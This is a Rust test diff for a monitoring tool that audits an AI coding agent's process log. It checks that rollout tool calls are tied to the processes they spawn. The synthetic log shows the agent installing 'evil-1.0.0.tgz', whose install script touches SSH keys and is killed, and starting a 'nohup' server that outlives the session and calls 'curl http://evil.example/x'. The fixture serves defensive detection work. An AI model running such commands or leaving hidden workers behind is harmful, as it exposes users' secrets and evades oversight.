@@ -123,3 +123,110 @@ fn without_guard_s_hook_nothing_is_declared_nor_undeclared() {
     assert!(r.undeclared.items.is_empty(), "{:#?}", r.undeclared);
     assert_eq!(r.commands.items.len(), 8, "the commands are all there");
 }
+
+/// [`LOG`] as it reads when Codex ran without guard's hook: no hook processes and no
+/// `tool_call` on the processes' events, the agent's forks, and the calls its
+/// rollout names written just before the session's end. `call_0`'s line was written
+/// after its shell's exec (Codex writes it from another task): the exec runs its
+/// command, so it is the call's all the same.
+fn rollout_log() -> String {
+    let forks = [(5, 11), (95, 20), (195, 22), (405, 30)];
+    let mut lines: Vec<(String, String)> = LOG
+        .lines()
+        .filter(|l| !l.contains(r#""kind":"tool_call""#) && !l.contains(r#""comm":"guard""#))
+        .map(|l| {
+            let l = l
+                .replace(r#""tool_call":"call_0","#, "")
+                .replace(r#""tool_call":"call_1","#, "");
+            (l[7..37].to_owned(), l)
+        })
+        .collect();
+    lines.push((
+        "2026-11-27T08:00:00.001000000Z".to_owned(),
+        r#"{"ts":"2026-11-27T08:00:00.001000000Z","kind":"exec","session":"aa","pid":10,"ppid":1,"comm":"codex","role":"agent","agent":"codex","exe":"/usr/bin/codex","argv":["codex","exec"]}"#.to_owned(),
+    ));
+    for (ms, child) in forks {
+        let (pid, role, comm) = if child == 22 {
+            (21, "tool", "npm")
+        } else {
+            (10, "agent", "codex")
+        };
+        let ts = format!("2026-11-27T08:00:00.{ms:03}000000Z");
+        lines.push((
+            ts.clone(),
+            format!(
+                r#"{{"ts":"{ts}","kind":"fork","session":"aa","pid":{pid},"comm":"{comm}","role":"{role}","child_pid":{child}}}"#
+            ),
+        ));
+    }
+    lines.sort_by(|a, b| a.0.cmp(&b.0));
+    let end = lines.pop().expect("the session's end").1;
+    let mut log: Vec<String> = lines.into_iter().map(|(_, l)| l).collect();
+    for (ms, call, phase, command) in [
+        (101, "call_0", "start", "npm install ./evil-1.0.0.tgz"),
+        (310, "call_0", "end", "npm install ./evil-1.0.0.tgz"),
+        (400, "call_1", "start", "nohup ./serve.sh &"),
+        (500, "call_1", "end", "nohup ./serve.sh &"),
+    ] {
+        log.push(format!(
+            r#"{{"ts":"2026-11-27T08:00:00.{ms:03}000000Z","kind":"tool_call","session":"aa","pid":10,"comm":"codex","role":"agent","tool_call":"{call}","phase":"{phase}","tool":"exec_command","command":"{command}","rollout":true}}"#
+        ));
+    }
+    log.push(end);
+    log.join("\n")
+}
+
+#[test]
+fn a_rollout_s_calls_are_tied_to_their_processes_after_the_session() {
+    let r = from_log(rollout_log().as_bytes(), "aa").unwrap();
+    assert_eq!(r.declared_by.as_deref(), Some("rollout"));
+    let calls: Vec<_> = r
+        .calls
+        .items
+        .iter()
+        .map(|c| {
+            (
+                c.id.as_str(),
+                c.started.as_str(),
+                c.processes.iter().map(|p| p.pid).collect::<Vec<_>>(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        calls,
+        [
+            ("call_0", "2026-11-27T08:00:00.101000000Z", vec![20, 21, 22]),
+            ("call_1", "2026-11-27T08:00:00.400000000Z", vec![30]),
+        ],
+        "{:#?}",
+        r.calls
+    );
+    assert_eq!(r.calls.items[0].verdicts, ["ssh-keys: killed"]);
+    assert_eq!(
+        r.calls.items[0].destinations,
+        ["registry.npmjs.org (10.0.0.5:443)"]
+    );
+    let undeclared: Vec<_> = r
+        .undeclared
+        .items
+        .iter()
+        .map(|u| (u.pid, u.why.as_str(), u.call.as_deref()))
+        .collect();
+    assert_eq!(
+        undeclared,
+        [
+            (11, super::OUTSIDE, None),
+            (22, super::INSTALL_SCRIPT, Some("call_0")),
+            (30, super::OUTLIVED, Some("call_1")),
+        ],
+        "{:#?}",
+        r.undeclared
+    );
+    assert_eq!(
+        r.undeclared.items[2].did,
+        ["curl http://evil.example/x", "connect 10.9.9.9:80"]
+    );
+    assert_eq!(r.untied, 0);
+    // The session's time is its own: the rollout's earlier times move nothing.
+    assert_eq!(r.ended.as_deref(), Some("2026-11-27T08:00:01.000000000Z"));
+}
